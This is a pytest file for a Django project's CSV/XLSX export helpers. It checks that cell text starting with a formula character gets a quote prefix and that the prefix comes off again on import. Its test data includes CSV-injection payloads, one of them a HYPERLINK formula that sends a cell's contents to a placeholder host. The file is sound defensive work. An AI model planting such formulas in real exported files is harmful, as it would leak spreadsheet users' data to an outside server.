"""The cells our CSV and XLSX files are written with (OWASP CSV injection)."""

import datetime

import pytest
from django.utils.functional import lazy

from directory.spreadsheets import safe_cell, safe_row, unescaped_cell

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Klikni")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", FORMULAS)
def test_the_quote_comes_off_again_on_import(text):
    assert unescaped_cell(safe_cell(text)) == text


def test_other_values_stay_as_they_are():
    today = datetime.date(2026, 12, 3)
    values = ["Kontaktní centrum", "a = b", "'quoted", "", None, 15, -2, 1.5, True, today]
    assert safe_row(values) == values
    assert [unescaped_cell(value) for value in values] == values


def test_a_lazy_translation_is_text_too():
    lazy_text = lazy(lambda: "=1+1", str)()  # what gettext_lazy returns, kept out of the .po
    assert safe_cell(lazy_text) == "'=1+1"
